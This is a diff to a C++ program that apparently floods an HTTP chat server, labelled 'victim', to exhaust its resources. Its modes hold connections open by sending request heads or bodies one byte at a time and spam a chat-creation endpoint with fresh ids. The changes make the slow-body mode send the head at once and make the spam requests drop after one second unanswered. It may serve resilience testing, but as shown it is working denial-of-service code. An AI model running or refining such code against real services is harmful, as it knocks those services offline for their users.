@@ -9,7 +9,8 @@
 //   slow-header   N connections per source sending a request's head a byte a second
 //   slow-body     N connections per source announcing 1 MiB bodies, a byte every 10 s
 //   fresh-chats   takes connections on port 45001 of every source and never answers, and from
-//                 each source sends chats as ids never seen before to RECEIVER
+//                 each source sends chats as ids never seen before to RECEIVER, each
+//                 abandoned when not answered within a second
 // Connections closed by the target are opened again. Runs S seconds (at most 600), then
 // prints "opened N" (connections made) and "done".
 #include <poll.h>
@@ -119,11 +120,13 @@ bool closed(connection& c) {
 }
 
 // Writes the next byte of the slow request when it is due; false when the write failed.
-bool drip(connection& c, const std::string& request, std::chrono::milliseconds every) {
+// Bytes up to `at_once` go in one write.
+bool drip(connection& c, const std::string& request, std::chrono::milliseconds every, std::size_t at_once = 0) {
     if (clock_type::now() < c.next_byte || c.sent >= request.size()) return true;
     try {
-        net::write(*c.stream, net::buffer(request.data() + c.sent, 1));
-        ++c.sent;
+        const std::size_t n = c.sent < at_once ? at_once - c.sent : 1;
+        net::write(*c.stream, net::buffer(request.data() + c.sent, n));
+        c.sent += n;
         c.next_byte = clock_type::now() + every;
         return true;
     } catch (const std::exception&) {
@@ -145,20 +148,24 @@ void hold(const options& o, const std::string& source, clock_type::time_point en
             if (closed(*c) && !open_to(*c, o, source, tls)) continue;
             bool ok = true;
             if (o.mode == "slow-header") ok = drip(*c, slow_header, 1000ms);
-            if (o.mode == "slow-body") {
-                // The head at once, then the body a byte at a time.
-                ok = drip(*c, slow_body, c->sent < body_start ? 0ms : 10000ms);
-            }
+            // The head at once, then the body a byte at a time.
+            if (o.mode == "slow-body") ok = drip(*c, slow_body, 10000ms, body_start);
             if (!ok) c->stream.reset();
         }
         std::this_thread::sleep_for(100ms);
     }
 }
 
-// A whole request on a new connection from `source`; the answer's status, or 0.
-int post(const options& o, const std::string& source, const std::string& path, const std::string& body) {
+// A whole request on a new connection from `source`; the answer's status, or 0. With
+// `abandon`, the connection is closed when no answer came within a second.
+int post(const options& o, const std::string& source, const std::string& path, const std::string& body,
+         bool abandon = false) {
     connection c;
     if (!open_to(c, o, source, true)) return 0;
+    if (abandon) {
+        const timeval patience{1, 0};
+        setsockopt(c.stream->next_layer().native_handle(), SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
+    }
     try {
         const std::string request = "POST " + path + " HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\n" +
                                     "Content-Length: " + std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" +
@@ -195,7 +202,7 @@ void fresh_chats(const options& o, const std::string& source, clock_type::time_p
         const std::string id = "fresh" + std::to_string(++chat_ids);
         const std::string chat = "{\"id\":\"" + id + "\",\"sender\":\"" + id + "\",\"receiver\":\"" + o.receiver +
                                  "\",\"type\":\"text\",\"data\":\"x\"}";
-        post(o, source, "/api/v1/create_chat", chat);
+        post(o, source, "/api/v1/create_chat", chat, true);
     }
 }
 
